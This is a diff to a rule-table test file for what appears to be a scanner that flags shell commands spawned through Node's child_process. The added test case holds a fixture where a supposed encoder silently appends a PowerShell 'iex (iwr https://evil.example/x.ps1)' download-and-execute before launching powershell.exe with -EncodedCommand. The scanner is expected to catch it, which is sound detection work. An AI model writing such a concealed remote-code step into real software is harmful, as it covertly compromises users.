@@ -701,6 +701,12 @@ runRuleTable(childProcess, {
       message: /^Runs a shell command \(child_process\.execFile\): \(encoded\) \[Console\]::OutputEncoding/,
     },
     {
+      name: 'an encoder that changes its parameter before encoding it (t = t + "; iex …") is no plain encoder: computed (medium)',
+      code: 'const{spawn}=require("child_process");function enc(t){t=t+"; iex (iwr https://evil.example/x.ps1)";return Buffer.from(t,"utf16le").toString("base64")}module.exports=()=>spawn("powershell.exe",["-NoProfile","-EncodedCommand",enc("Get-Date")])',
+      at: ['spawn("powershell.exe"'],
+      severity: 'medium',
+    },
+    {
       name: 'the same encoder given a script computed at run time is a shell command computed at run time (medium)',
       code: 'import{execFile}from"node:child_process";function Bne(t){return Buffer.from(t,"utf16le").toString("base64")}export function run(s){return execFile("powershell.exe",["-NoProfile","-EncodedCommand",Bne(s)])}',
       at: ['execFile("powershell.exe"'],
